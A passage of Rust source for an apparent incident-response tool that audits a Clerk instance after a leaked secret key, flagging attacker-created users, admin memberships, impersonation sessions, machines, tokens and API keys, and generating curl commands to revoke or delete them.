//! The audit's checks, and the baseline snapshot, over [`ClerkApi`].

use std::collections::{BTreeMap, BTreeSet};

use serde_json::Value;

use super::baseline::{Baseline, MembershipDigest, UserDigest};
use super::catalog::{COLLECTIONS, Collection, curl, describe};
use super::digest::object_digest;
use super::finding::{Change, Finding, FindingKind, ObjectKind};
use super::report::{AuditReport, AuditWindow, CheckedList, NotChecked, rfc3339 as time};
use crate::api::{ApiError, ClerkApi, ListCall, ListShape, MAX_PAGE_SIZE, UserQuery};

/// `last_active_at` has day precision: users active in the window are those whose day is at
/// most this much before its start.
const DAY_MS: i64 = 86_400_000;

/// Page size of the API key and M2M token lists (the spec's maximum).
const CREDENTIAL_PAGE_SIZE: u32 = 100;

/// What the audit is doing, for a progress display.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum AuditProgress {
    /// Check `index` (from 0) of `of` starts.
    Check {
        /// Its name, such as `users created`.
        name: &'static str,
        /// Its position.
        index: usize,
        /// How many checks there are.
        of: usize,
    },
    /// The sessions check has read the sessions of `done` of the `of` users active in the
    /// window (counted first).
    Users {
        /// Users done.
        done: u64,
        /// Users to do.
        of: u64,
    },
}

/// The checks, in order: later ones use what earlier ones found.
#[derive(Clone, Copy)]
enum Step {
    UsersCreated,
    UsersUpdated,
    UsersDeleted,
    Organizations,
    Memberships,
    Sessions,
    Machines,
    M2mTokens,
    ApiKeys,
    Collection(&'static Collection),
    Instance,
}

impl Step {
    /// The checks whose results this one builds on.
    fn needs(self) -> &'static [&'static str] {
        match self {
            Step::UsersDeleted | Step::Sessions => &["users created", "users updated"],
            Step::M2mTokens => &["machines"],
            Step::ApiKeys => &[
                "organizations",
                "machines",
                "users created",
                "users updated",
            ],
            _ => &[],
        }
    }

    fn name(self) -> &'static str {
        match self {
            Step::UsersCreated => "users created",
            Step::UsersUpdated => "users updated",
            Step::UsersDeleted => "users deleted",
            Step::Organizations => "organizations",
            Step::Memberships => "admin memberships",
            Step::Sessions => "sessions",
            Step::Machines => "machines",
            Step::M2mTokens => "M2M tokens",
            Step::ApiKeys => "API keys",
            Step::Collection(collection) => collection.check,
            Step::Instance => "instance settings",
        }
    }
}

/// A raw object's member as Unix ms.
fn ms(object: &Value, member: &str) -> Option<i64> {
    object.get(member).and_then(|value| {
        value
            .as_i64()
            // API keys and M2M tokens give their times as JSON numbers (still Unix ms).
            .or_else(|| {
                #[allow(clippy::cast_possible_truncation)]
                value.as_f64().map(|number| number as i64)
            })
    })
}

/// A raw object's `id`.
fn id_of(object: &Value) -> String {
    object["id"].as_str().unwrap_or_default().to_owned()
}

/// Metadata members by name; with `values`, the short scalar values of those that grant
/// access (`role = "admin"`). Names that may hold a credential (token, secret, key,
/// password) never show a value, and neither does private metadata (`values` false).
fn metadata_summary(metadata: &Value, values: bool) -> Option<String> {
    let members = metadata.as_object().filter(|members| !members.is_empty())?;
    let has = |name: &str, words: &[&str]| {
        let name = name.to_ascii_lowercase();
        words.iter().any(|word| name.contains(word))
    };
    let parts: Vec<String> = members
        .iter()
        .map(|(name, value)| {
            let grants = has(
                name,
                &["role", "admin", "permission", "plan", "tier", "staff"],
            );
            let credential = has(name, &["token", "secret", "key", "password", "credential"]);
            let short = match value {
                Value::String(text) => text.chars().count() <= 40,
                Value::Bool(_) | Value::Number(_) => true,
                _ => false,
            };
            if values && grants && !credential && short {
                format!("{} = {value}", printable(name))
            } else {
                printable(name)
            }
        })
        .collect();
    Some(parts.join(", "))
}

/// Text from the Backend API made safe to print: control characters (terminal escapes)
/// replaced.
fn printable(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_control() { '?' } else { c })
        .collect()
}

/// Whether an id can go into a pasted command as it is (Clerk's ids are letters, digits and
/// `_`); anything else could break out of the quotes.
fn safe_id(id: &str) -> bool {
    !id.is_empty()
        && id
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

/// The ids of a baseline that are no longer among `now`.
fn gone<'b>(known: impl IntoIterator<Item = &'b String>, now: &[String]) -> Vec<String> {
    let now: BTreeSet<&str> = now.iter().map(String::as_str).collect();
    known
        .into_iter()
        .filter(|id| !now.contains(id.as_str()))
        .cloned()
        .collect()
}

/// Whether a membership role is an admin role (`org:admin`, or a custom `…admin…`).
fn is_admin_role(role: &str) -> bool {
    role.to_ascii_lowercase().contains("admin")
}

/// Whether a membership administers its organisation: an admin role, or a custom role that
/// holds the system permissions to manage members or the organisation.
fn is_admin_membership(membership: &Value) -> bool {
    let role = membership
        .get("role")
        .and_then(Value::as_str)
        .unwrap_or_default();
    let manages = membership
        .get("permissions")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .any(|permission| {
            matches!(
                permission,
                "org:sys_memberships:manage" | "org:sys_profile:manage" | "org:sys_profile:delete"
            )
        });
    is_admin_role(role) || manages
}

/// The audit in progress.
struct Audit<'a> {
    api: &'a ClerkApi,
    base: String,
    window: AuditWindow,
    baseline: Option<&'a Baseline>,
    findings: Vec<Finding>,
    /// Users created in the window (or missing from the baseline): their sessions and API
    /// keys are looked at.
    new_users: BTreeSet<String>,
    /// Users changed in the window: their API keys are looked at.
    changed_users: BTreeSet<String>,
    /// New users whose `created_at` says they are older than the baseline.
    backdated: BTreeSet<String>,
    /// Parts of a check that could not be read although the check went on.
    partial: Vec<NotChecked>,
    organizations: Vec<String>,
    machines: Vec<String>,
}

impl<'a> Audit<'a> {
    /// The baseline, when it may rule changes out: only one taken before the window began
    /// (a later one may already hold the attacker's changes). A later one still finds more.
    fn ruling_out(&self) -> Option<&'a Baseline> {
        self.baseline
            .filter(|baseline| baseline.taken_at_ms <= self.window.since_ms)
    }

    fn undo(&self, method: &str, path: &str, body: Option<&str>) -> String {
        let segments_safe = path
            .split('/')
            .filter(|segment| !segment.is_empty())
            .all(safe_id);
        if segments_safe {
            curl(&self.base, method, path, body)
        } else {
            format!(
                "The id holds unexpected characters: undo it in the Dashboard ({method} {})",
                printable(path)
            )
        }
    }

    fn find(
        &mut self,
        kind: FindingKind,
        id: String,
        at_ms: Option<i64>,
        what: String,
        why: &str,
        undo: String,
    ) {
        let mut what = what;
        if let Some(at) = at_ms.filter(|at| *at > self.window.until_ms) {
            // Clerk keeps only the latest update: one after the window may hide one in it.
            what.push_str(&format!(
                "; last changed after the window ({}), which may hide a change inside it",
                time(at)
            ));
        }
        self.findings.push(Finding {
            kind,
            id: if id.chars().any(char::is_control) {
                printable(&id)
            } else {
                id
            },
            at_ms,
            what: printable(&what),
            why: why.to_owned(),
            undo,
        });
    }

    async fn step(
        &mut self,
        step: Step,
        progress: &mut (dyn FnMut(AuditProgress) + Send),
    ) -> Result<u64, ApiError> {
        match step {
            Step::UsersCreated => self.users_created().await,
            Step::UsersUpdated => self.users_updated().await,
            Step::UsersDeleted => self.users_deleted().await,
            Step::Organizations => self.organizations().await,
            Step::Memberships => self.memberships().await,
            Step::Sessions => self.sessions(progress).await,
            Step::Machines => self.machines().await,
            Step::M2mTokens => self.m2m_tokens().await,
            Step::ApiKeys => self.api_keys().await,
            Step::Collection(collection) => self.collection(collection).await,
            Step::Instance => self.instance().await,
        }
    }

    fn describe_user(user: &Value) -> String {
        let email = user
            .pointer("/email_addresses/0/email_address")
            .and_then(Value::as_str);
        let name = [user["first_name"].as_str(), user["last_name"].as_str()]
            .into_iter()
            .flatten()
            .filter(|part| !part.trim().is_empty())
            .collect::<Vec<_>>()
            .join(" ");
        let mut text = match (email, name.is_empty()) {
            (Some(email), true) => email.to_owned(),
            (Some(email), false) => format!("{name} <{email}>"),
            (None, false) => name,
            (None, true) => "a user without email or name".to_owned(),
        };
        for (member, label, values) in [
            ("public_metadata", "public", true),
            ("private_metadata", "private", false),
        ] {
            if let Some(summary) = metadata_summary(&user[member], values) {
                text.push_str(&format!("; {label} metadata: {summary}"));
            }
        }
        text
    }

    /// Users whose `created_at` falls in the window: counted, then listed newest first.
    async fn users_created(&mut self) -> Result<u64, ApiError> {
        let query = UserQuery::new()
            .created_at_after(self.window.since_ms.saturating_sub(1))
            .created_at_before(self.window.until_ms.saturating_add(1));
        if self.api.count_users(&query).await? == 0 {
            return Ok(0);
        }
        let list = ListCall {
            operation: "list users",
            path: "/v1/users".to_owned(),
            params: vec![
                (
                    "created_at_after",
                    self.window.since_ms.saturating_sub(1).to_string(),
                ),
                (
                    "created_at_before",
                    self.window.until_ms.saturating_add(1).to_string(),
                ),
                ("order_by", "-created_at".to_owned()),
            ],
            shape: ListShape::Array,
            page_size: Some(MAX_PAGE_SIZE),
        };
        let users = self.api.list_objects(&list, |_| true).await?;
        let window = self.window;
        let in_window = users
            .iter()
            .filter(|user| ms(user, "created_at").is_some_and(|at| window.contains(at)));
        for user in in_window {
            let id = id_of(user);
            self.new_users.insert(id.clone());
            let what = Self::describe_user(user);
            let undo = self.undo("DELETE", &format!("/v1/users/{id}"), None);
            self.find(FindingKind::new(ObjectKind::User, Change::Created), id, ms(user, "created_at"), what,
                "a user the attacker controls can sign in as themselves, with whatever metadata grants", undo);
        }
        Ok(users.len() as u64)
    }

    /// Users updated in the window and created before it (most recently updated first; the
    /// walk stops at the first one updated before the window).
    async fn users_updated(&mut self) -> Result<u64, ApiError> {
        use futures::TryStreamExt;
        let pages: Vec<Vec<Value>> = self
            .api
            .list_users_updated_since(self.window.since_ms, MAX_PAGE_SIZE)
            .try_collect()
            .await?;
        let mut read = 0;
        for user in pages.into_iter().flatten() {
            read += 1;
            let id = id_of(&user);
            let (Some(created), Some(updated)) = (ms(&user, "created_at"), ms(&user, "updated_at"))
            else {
                continue;
            };
            // A user changed in the window and again after it shows only the later time:
            // anything updated since the window began is a candidate.
            if self.window.contains(created) || updated < self.window.since_ms {
                continue;
            }
            let now = UserDigest::of(&user);
            let mut what = Self::describe_user(&user);
            let (change, why) = match self.baseline.map(|baseline| baseline.users.get(&id)) {
                Some(None) if created < self.baseline.map_or(0, |b| b.taken_at_ms) => {
                    self.new_users.insert(id.clone());
                    self.backdated.insert(id.clone());
                    what.push_str(&format!(
                        "; not in the baseline, though its created_at says {} (backdated)",
                        time(created)
                    ));
                    (
                        Change::Created,
                        "a user created with a backdated created_at, to hide among old accounts",
                    )
                }
                Some(None) => {
                    self.new_users.insert(id.clone());
                    what.push_str("; created after the baseline");
                    (Change::Created, "a user created since the baseline")
                }
                Some(Some(before)) => {
                    let differences = before.differences(&now);
                    if differences.is_empty() {
                        what.push_str("; changed in fields the baseline does not track (names, passkeys, external accounts, settings)");
                        (
                            Change::Updated,
                            "changed while the key was out, in fields the baseline cannot compare: check them",
                        )
                    } else {
                        what.push_str(&format!(
                            "; changed since the baseline: {}",
                            differences.join(", ")
                        ));
                        (
                            Change::Updated,
                            "metadata roles or sign-in details decide what a user can do and who can sign in as them",
                        )
                    }
                }
                None => (
                    Change::Updated,
                    "metadata roles or sign-in details may have changed (take baselines to know which)",
                ),
            };
            self.changed_users.insert(id.clone());
            let undo = if change == Change::Created {
                self.undo("DELETE", &format!("/v1/users/{id}"), None)
            } else {
                format!(
                    "Dashboard → Users → {}: restore its metadata and sign-in details from your own records (the Backend API call is PATCH /v1/users/{{id}}/metadata, where null removes a member); if the account itself was taken over, ban it first: {}",
                    printable(&id),
                    self.undo("POST", &format!("/v1/users/{id}/ban"), None)
                )
            };
            self.find(
                FindingKind::new(ObjectKind::User, change),
                id,
                Some(updated),
                what,
                why,
                undo,
            );
        }
        Ok(read)
    }

    /// With a baseline: users it knew that are gone. Two counts say how many: every user
    /// now, against the baseline's plus those created since it (and the backdated ones).
    async fn users_deleted(&mut self) -> Result<u64, ApiError> {
        let Some(baseline) = self.baseline else {
            return Ok(0);
        };
        let now = self.api.count_users(&UserQuery::new()).await?;
        let created_since =
            UserQuery::new().created_at_after(baseline.taken_at_ms.saturating_sub(1));
        let known = baseline.users.len() as u64;
        let added = self.api.count_users(&created_since).await? + self.backdated.len() as u64;
        let expected = known + added;
        if now < expected {
            let gone = expected - now;
            let undo = "Deleted users cannot be restored: compare your own records with the baseline's ids, and recreate the accounts you need".to_owned();
            self.find(
                FindingKind::new(ObjectKind::Users, Change::Deleted),
                format!("{gone} user(s)"),
                None,
                format!("{now} users now; the baseline had {known} and {added} were added since"),
                "a deleted user loses their account and data (or the deletion covers other tracks)",
                undo,
            );
        }
        Ok(1)
    }

    /// Every organisation: those created or updated in the window are findings; all ids are
    /// kept for the API key check.
    async fn organizations(&mut self) -> Result<u64, ApiError> {
        let list = ListCall {
            operation: "list organizations",
            path: "/v1/organizations".to_owned(),
            params: vec![("order_by", "-created_at".to_owned())],
            shape: ListShape::Wrapped("data"),
            page_size: Some(MAX_PAGE_SIZE),
        };
        let organizations = self.api.list_objects(&list, |_| true).await?;
        for org in &organizations {
            let id = id_of(org);
            self.organizations.push(id.clone());
            let created = ms(org, "created_at").filter(|at| self.window.contains(*at));
            let updated = ms(org, "updated_at").filter(|at| *at >= self.window.since_ms);
            let changed_since_baseline = self
                .ruling_out()
                .and_then(|baseline| baseline.organizations.get(&id))
                .is_none_or(|digest| *digest != object_digest(org));
            let what = describe(org, &["name", "slug", "created_by"]);
            if created.is_some() {
                let undo = self.undo("DELETE", &format!("/v1/organizations/{id}"), None);
                self.find(
                    FindingKind::new(ObjectKind::Organization, Change::Created),
                    id,
                    created,
                    what,
                    "an organisation the attacker owns can hold members, roles and API keys",
                    undo,
                );
            } else if updated.is_some() && changed_since_baseline {
                let undo = format!(
                    "Dashboard → Organizations → {}: restore its settings and metadata from your records",
                    printable(&id)
                );
                self.find(
                    FindingKind::new(ObjectKind::Organization, Change::Updated),
                    id,
                    updated,
                    what,
                    "an organisation's metadata and limits decide what its members can do",
                    undo,
                );
            }
        }
        if let Some(baseline) = self.baseline {
            for id in gone(baseline.organizations.keys(), &self.organizations) {
                self.find(
                    FindingKind::new(ObjectKind::Organization, Change::Deleted),
                    id,
                    None,
                    "in the baseline, gone now".to_owned(),
                    "a deleted organisation takes its members, roles and data with it",
                    "Deleted organisations cannot be restored: recreate it and its memberships from your records".to_owned(),
                );
            }
        }
        Ok(organizations.len() as u64)
    }

    /// Every membership of the instance: admin roles created, or granted, in the window.
    async fn memberships(&mut self) -> Result<u64, ApiError> {
        let list = ListCall {
            operation: "list organization memberships",
            path: "/v1/organization_memberships".to_owned(),
            params: vec![("order_by", "-created_at".to_owned())],
            shape: ListShape::Wrapped("data"),
            page_size: Some(MAX_PAGE_SIZE),
        };
        let memberships = self.api.list_objects(&list, |_| true).await?;
        let mut admins_now = BTreeSet::new();
        for membership in &memberships {
            let role = membership["role"].as_str().unwrap_or_default();
            if !is_admin_membership(membership) {
                continue;
            }
            admins_now.insert(id_of(membership));
            let id = id_of(membership);
            let org = membership
                .pointer("/organization/id")
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_owned();
            let slug = membership
                .pointer("/organization/slug")
                .and_then(Value::as_str)
                .unwrap_or_default();
            let user = membership
                .pointer("/public_user_data/user_id")
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_owned();
            let created = ms(membership, "created_at");
            let updated = ms(membership, "updated_at");
            let what = format!("{user} is {role} of {slug} ({org})");
            if let Some(at) = created.filter(|at| self.window.contains(*at)) {
                let undo = self.undo(
                    "DELETE",
                    &format!("/v1/organizations/{org}/memberships/{user}"),
                    None,
                );
                self.find(
                    FindingKind::new(ObjectKind::OrganizationMembership, Change::Created),
                    id,
                    Some(at),
                    what,
                    "an admin of an organisation manages its members, roles and data",
                    undo,
                );
                continue;
            }
            let Some(at) = updated.filter(|at| *at >= self.window.since_ms) else {
                continue;
            };
            let was_admin = self
                .ruling_out()
                .and_then(|baseline| baseline.admin_memberships.get(&id))
                .is_some_and(|before| before.role == role);
            if was_admin {
                continue;
            }
            let undo = self.undo(
                "PATCH",
                &format!("/v1/organizations/{org}/memberships/{user}"),
                Some("{\"role\":\"org:member\"}"),
            );
            self.find(
                FindingKind::new(ObjectKind::OrganizationMembership, Change::Updated),
                id,
                Some(at),
                format!("{what}; the role changed in the window"),
                "a member promoted to admin manages the organisation's members, roles and data",
                undo,
            );
        }
        if let Some(baseline) = self.baseline {
            let gone: Vec<(String, MembershipDigest)> = baseline
                .admin_memberships
                .iter()
                .filter(|(id, _)| !admins_now.contains(*id))
                .map(|(id, before)| (id.clone(), before.clone()))
                .collect();
            for (id, before) in gone {
                let plain = |text: &str| {
                    text.chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, ':' | '_' | '-'))
                };
                let restore_body = (plain(&before.user_id) && plain(&before.role)).then(|| {
                    format!(
                        "{{\"user_id\":\"{}\",\"role\":\"{}\"}}",
                        before.user_id, before.role
                    )
                });
                self.find(
                    FindingKind::new(ObjectKind::OrganizationMembership, Change::Deleted),
                    id,
                    None,
                    format!(
                        "{} was {} of {} in the baseline, and is no longer an admin there",
                        before.user_id, before.role, before.organization_id
                    ),
                    "removing the real admins locks the organisation's owners out",
                    self.undo(
                        "POST",
                        &format!("/v1/organizations/{}/memberships", before.organization_id),
                        restore_body.as_deref(),
                    ),
                );
            }
        }
        Ok(memberships.len() as u64)
    }

    /// The sessions of every user active in the window (counted first): those started by
    /// impersonation, and those of users created in it. Clerk lists sessions per user only.
    async fn sessions(
        &mut self,
        progress: &mut (dyn FnMut(AuditProgress) + Send),
    ) -> Result<u64, ApiError> {
        let active_since = self.window.since_ms.saturating_sub(DAY_MS);
        let query = UserQuery::new().last_active_at_after(active_since);
        let of = self.api.count_users(&query).await?;
        progress(AuditProgress::Users { done: 0, of });
        let list = ListCall {
            operation: "list users",
            path: "/v1/users".to_owned(),
            params: vec![
                ("last_active_at_after", active_since.to_string()),
                ("order_by", "-created_at".to_owned()),
            ],
            shape: ListShape::Array,
            page_size: Some(MAX_PAGE_SIZE),
        };
        let users = self.api.list_objects(&list, |_| true).await?;
        let mut read = 0;
        let mut failed: Vec<String> = Vec::new();
        for (done, user) in users.iter().enumerate() {
            let user_id = id_of(user);
            let sessions = match self.api.list_sessions(&user_id, None).await {
                Ok(sessions) => sessions,
                // One user's list failing (deleted meanwhile, a 5xx past the retries) must not
                // cost the others': recorded, and the walk goes on.
                Err(error) => {
                    failed.push(format!("{user_id}: {error}"));
                    continue;
                }
            };
            read += sessions.len() as u64;
            for session in sessions {
                if !self.window.contains(session.created_at) {
                    continue;
                }
                let revoke =
                    self.undo("POST", &format!("/v1/sessions/{}/revoke", session.id), None);
                if let Some(actor) = session.actor.as_ref().filter(|actor| !actor.is_null()) {
                    let by = actor["sub"].as_str().unwrap_or("someone");
                    self.find(
                        FindingKind::new(ObjectKind::Session, Change::Impersonated),
                        session.id.clone(),
                        Some(session.created_at),
                        format!("{by} impersonating {user_id} (status {})", session.status),
                        "an actor token lets whoever holds it act as the user, with their roles",
                        revoke,
                    );
                } else if self.new_users.contains(&user_id) {
                    self.find(FindingKind::new(ObjectKind::Session, Change::Created), session.id.clone(), Some(session.created_at),
                        format!("a session of {user_id}, created in the window (status {})", session.status),
                        "a user created with the leaked key has signed in (a sign-in token leaves just this trace)", revoke);
                }
            }
            progress(AuditProgress::Users {
                done: done as u64 + 1,
                of: of.max(done as u64 + 1),
            });
        }
        if !failed.is_empty() {
            let shown: Vec<&str> = failed.iter().take(3).map(String::as_str).collect();
            self.partial.push(NotChecked {
                check: "sessions".to_owned(),
                error: format!(
                    "the sessions of {} user(s) could not be read: {}{}",
                    failed.len(),
                    shown.join("; "),
                    if failed.len() > 3 { "; …" } else { "" }
                ),
            });
        }
        Ok(read)
    }

    /// Every machine: those created in the window are findings; all are kept for the M2M
    /// token and API key checks.
    async fn machines(&mut self) -> Result<u64, ApiError> {
        let list = ListCall {
            operation: "list machines",
            path: "/v1/machines".to_owned(),
            params: vec![("order_by", "-created_at".to_owned())],
            shape: ListShape::Wrapped("data"),
            page_size: Some(MAX_PAGE_SIZE),
        };
        let machines = self.api.list_objects(&list, |_| true).await?;
        for machine in &machines {
            let id = id_of(machine);
            self.machines.push(id.clone());
            let created = ms(machine, "created_at").filter(|at| self.window.contains(*at));
            let not_in_baseline = self.baseline.is_some_and(|b| !b.machines.contains_key(&id));
            if created.is_some()
                || (created.is_none() && not_in_baseline && ms(machine, "created_at").is_none())
            {
                let undo = self.undo("DELETE", &format!("/v1/machines/{id}"), None);
                self.find(
                    FindingKind::new(ObjectKind::Machine, Change::Created),
                    id,
                    created,
                    describe(machine, &["name"]),
                    "a machine's secret key mints M2M tokens your services accept",
                    undo,
                );
            }
        }
        if let Some(baseline) = self.baseline {
            for id in gone(baseline.machines.keys(), &self.machines) {
                self.find(
                    FindingKind::new(ObjectKind::Machine, Change::Deleted),
                    id,
                    None,
                    "in the baseline, gone now".to_owned(),
                    "the services that authenticate as this machine now fail",
                    "Recreate the machine (POST /v1/machines) and give its services the new secret key".to_owned(),
                );
            }
        }
        Ok(machines.len() as u64)
    }

    /// The M2M tokens of every machine (Clerk lists them per machine).
    async fn m2m_tokens(&mut self) -> Result<u64, ApiError> {
        let mut read = 0;
        for machine in self.machines.clone() {
            let list = ListCall {
                operation: "list m2m tokens",
                path: "/v1/m2m_tokens".to_owned(),
                params: vec![("subject", machine.clone())],
                shape: ListShape::Wrapped("m2m_tokens"),
                page_size: Some(CREDENTIAL_PAGE_SIZE),
            };
            let tokens = self.api.list_objects(&list, |_| true).await?;
            read += tokens.len() as u64;
            for token in tokens {
                let Some(at) = ms(&token, "created_at").filter(|at| self.window.contains(*at))
                else {
                    continue;
                };
                let id = id_of(&token);
                let expires = ms(&token, "expiration").map_or("never expires".to_owned(), |at| {
                    format!("expires {}", time(at))
                });
                let undo = self.undo(
                    "POST",
                    &format!("/v1/m2m_tokens/{id}/revoke"),
                    Some("{\"revocation_reason\":\"key compromise\"}"),
                );
                self.find(
                    FindingKind::new(ObjectKind::M2mToken, Change::Created),
                    id,
                    Some(at),
                    format!("a token of {machine}, {expires}"),
                    "an M2M token is accepted by your services as that machine until it expires",
                    undo,
                );
            }
        }
        Ok(read)
    }

    /// The API keys of every organisation, every machine, and every user created or changed
    /// in the window (Clerk lists them per subject).
    async fn api_keys(&mut self) -> Result<u64, ApiError> {
        let subjects: BTreeSet<String> = self
            .organizations
            .iter()
            .chain(&self.machines)
            .chain(&self.new_users)
            .chain(&self.changed_users)
            .cloned()
            .collect();
        let mut read = 0;
        for subject in subjects {
            let list = ListCall {
                operation: "list api keys",
                path: "/v1/api_keys".to_owned(),
                params: vec![("subject", subject.clone())],
                shape: ListShape::Wrapped("data"),
                page_size: Some(CREDENTIAL_PAGE_SIZE),
            };
            let keys = self.api.list_objects(&list, |_| true).await?;
            read += keys.len() as u64;
            for key in keys {
                let Some(at) = ms(&key, "created_at").filter(|at| self.window.contains(*at)) else {
                    continue;
                };
                let id = id_of(&key);
                let name = key.get("name").and_then(Value::as_str).unwrap_or_default();
                let undo = self.undo(
                    "POST",
                    &format!("/v1/api_keys/{id}/revoke"),
                    Some("{\"revocation_reason\":\"key compromise\"}"),
                );
                self.find(
                    FindingKind::new(ObjectKind::ApiKey, Change::Created),
                    id,
                    Some(at),
                    format!("\"{name}\" for {subject}"),
                    "an API key authenticates as its subject until it is revoked",
                    undo,
                );
            }
        }
        Ok(read)
    }

    /// One of the [`COLLECTIONS`]: created or changed in the window where the objects carry
    /// times; against the baseline where they do not; removed since the baseline.
    async fn collection(&mut self, collection: &'static Collection) -> Result<u64, ApiError> {
        let list = ListCall {
            operation: collection.check,
            path: format!("/v1/{}", collection.path),
            params: Vec::new(),
            shape: collection.shape,
            page_size: collection.paged.then_some(MAX_PAGE_SIZE),
        };
        let objects = self.api.list_objects(&list, |_| true).await?;
        let known = self
            .baseline
            .and_then(|baseline| baseline.objects.get(collection.path));
        let ruling_out = self
            .ruling_out()
            .and_then(|baseline| baseline.objects.get(collection.path));
        let (method, template, body) = collection.undo;
        for object in &objects {
            let id = id_of(object);
            let what = describe(object, collection.describe);
            let undo = self.undo(method, &template.replace("{id}", &id), body);
            let restore = format!(
                "Dashboard → {}: restore {} from your records (deleting it would break what relies on it)",
                collection.check,
                printable(&id)
            );
            let created = ms(object, "created_at");
            let updated = ms(object, "updated_at");
            match (created, known) {
                (Some(at), _) if self.window.contains(at) => {
                    self.find(
                        FindingKind::new(collection.object, Change::Created),
                        id,
                        Some(at),
                        what,
                        collection.why,
                        undo,
                    );
                }
                (Some(_), _) => {
                    let changed = ruling_out
                        .and_then(|known| known.get(&id))
                        .is_none_or(|digest| *digest != object_digest(object));
                    if let Some(at) = updated
                        .filter(|at| *at >= self.window.since_ms)
                        .filter(|_| changed)
                    {
                        self.find(
                            FindingKind::new(collection.object, Change::Updated),
                            id,
                            Some(at),
                            what,
                            collection.why,
                            restore,
                        );
                    }
                }
                (None, Some(known)) => {
                    match known.get(&id) {
                        None => {
                            self.find(FindingKind::new(collection.object, Change::Created), id, None,
                            format!("{what}; added since the baseline (the API keeps no time for it)"), collection.why, undo);
                        }
                        Some(digest) if *digest != object_digest(object) => {
                            self.find(FindingKind::new(collection.object, Change::Updated), id, None,
                            format!("{what}; changed since the baseline (the API keeps no time for it)"), collection.why, restore);
                        }
                        Some(_) => {}
                    }
                }
                (None, None) => {}
            }
        }
        if let Some(known) = known {
            let now: Vec<String> = objects.iter().map(id_of).collect();
            for id in gone(known.keys(), &now) {
                self.find(FindingKind::new(collection.object, Change::Deleted), id, None,
                    format!("in the baseline, gone now ({})", collection.check),
                    "a removed entry may have protected something (a blocklist entry, a template your services need)",
                    format!("Recreate it from your own records (the baseline keeps only its id): Dashboard → {}", collection.check));
            }
        }
        Ok(objects.len() as u64)
    }

    /// With a baseline: `GET /v1/instance` compared.
    async fn instance(&mut self) -> Result<u64, ApiError> {
        let Some(baseline) = self.baseline else {
            return Ok(0);
        };
        let instance = self
            .api
            .get_object("get instance", "/v1/instance".to_owned())
            .await?;
        if object_digest(&instance) != baseline.instance {
            let what = describe(&instance, &["environment_type", "allowed_origins"]);
            self.find(
                FindingKind::new(ObjectKind::Instance, Change::Updated),
                id_of(&instance),
                None,
                format!("{what}; changed since the baseline"),
                "allowed origins decide which sites may use your users' sessions",
                "Dashboard → Configure → Settings: compare with what it was and restore it"
                    .to_owned(),
            );
        }
        Ok(1)
    }
}

/// What the audit cannot see, for the report.
fn blind_spots(baseline: Option<&Baseline>, window: AuditWindow) -> Vec<String> {
    let mut spots = vec![
        "Secrets the key could read without leaving a trace: every machine's secret key and every API key's secret can be fetched with it, so rotate all machine secret keys and re-issue API keys; it could also mint session tokens for existing sessions and read users' OAuth access tokens of other providers".to_owned(),
        "Sign-in and actor tokens: Clerk lists neither. Only sessions started by impersonation, and sessions of users created in the window, are reported; a token minted and not yet used stays valid until it expires (sign-in tokens up to 30 days, actor tokens 1 hour by default), and revoking sessions does not end it".to_owned(),
        "API keys of users the audit did not flag (Clerk lists them per subject: one request per user), and M2M tokens in JWT format (Clerk lists opaque ones only)".to_owned(),
        "Not read by this version: webhook endpoints (Svix), SCIM directories, organisation roles, permissions and role sets (a permission added to org:member makes every member an admin), organisation invitations and domains, enterprise connections (OIDC), OAuth application secrets rotated, and instance settings beyond GET /v1/instance (restrictions, organisation settings, protect, communication, domain changes): check them in the Dashboard".to_owned(),
        "Sessions of users not active since the day before the window began, and anything created and deleted again inside the window, or done through the Dashboard rather than with the key".to_owned(),
    ];
    match baseline {
        None => spots.push("Without a baseline: domains (and allow/blocklist entries without timestamps) added, anything removed, users deleted, admins demoted, and exactly which fields of a changed user differ; take one with `clerk-incident audit snapshot` before the next incident".to_owned()),
        Some(baseline) if baseline.taken_at_ms > window.since_ms => spots.push(format!(
            "The baseline was taken after the window began ({} > {}): it may already hold the attacker's changes, so it is used to find more, never to rule anything out",
            time(baseline.taken_at_ms),
            time(window.since_ms)
        )),
        Some(_) => {}
    }
    spots
}

/// Audits `window`: every check in order, each failure recorded as not checked and the rest
/// carried on.
pub async fn audit(
    api: &ClerkApi,
    window: AuditWindow,
    baseline: Option<&Baseline>,
    progress: &mut (dyn FnMut(AuditProgress) + Send),
) -> AuditReport {
    let mut steps = vec![
        Step::UsersCreated,
        Step::UsersUpdated,
        Step::UsersDeleted,
        Step::Organizations,
        Step::Memberships,
        Step::Sessions,
        Step::Machines,
        Step::M2mTokens,
        Step::ApiKeys,
    ];
    steps.extend(COLLECTIONS.iter().map(Step::Collection));
    steps.push(Step::Instance);
    if baseline.is_none() {
        steps.retain(|step| !matches!(step, Step::UsersDeleted | Step::Instance));
    }
    let mut audit = Audit {
        api,
        base: api.base_url().to_owned(),
        window,
        baseline,
        findings: Vec::new(),
        new_users: BTreeSet::new(),
        changed_users: BTreeSet::new(),
        backdated: BTreeSet::new(),
        partial: Vec::new(),
        organizations: Vec::new(),
        machines: Vec::new(),
    };
    let started = api.counters().requests;
    let mut checked = Vec::new();
    let mut not_checked = Vec::new();
    let of = steps.len();
    let mut failed: BTreeSet<&'static str> = BTreeSet::new();
    for (index, step) in steps.into_iter().enumerate() {
        let name = step.name();
        progress(AuditProgress::Check { name, index, of });
        let missing: Vec<&str> = step
            .needs()
            .iter()
            .copied()
            .filter(|need| failed.contains(need))
            .collect();
        if !missing.is_empty() {
            not_checked.push(NotChecked {
                check: name.to_owned(),
                error: format!(
                    "partly: it builds on {}, which could not be read",
                    missing.join(" and ")
                ),
            });
        }
        let before = api.counters().requests;
        let result = audit.step(step, progress).await;
        let calls = api.counters().requests - before;
        match result {
            Ok(items) => checked.push(CheckedList {
                check: name.to_owned(),
                items,
                calls,
            }),
            Err(error) => {
                failed.insert(name);
                tracing::warn!(check = name, %error, "audit check failed");
                not_checked.push(NotChecked {
                    check: name.to_owned(),
                    error: error.to_string(),
                });
            }
        }
    }
    let mut report = AuditReport {
        window,
        baseline_taken_at_ms: baseline.map(|baseline| baseline.taken_at_ms),
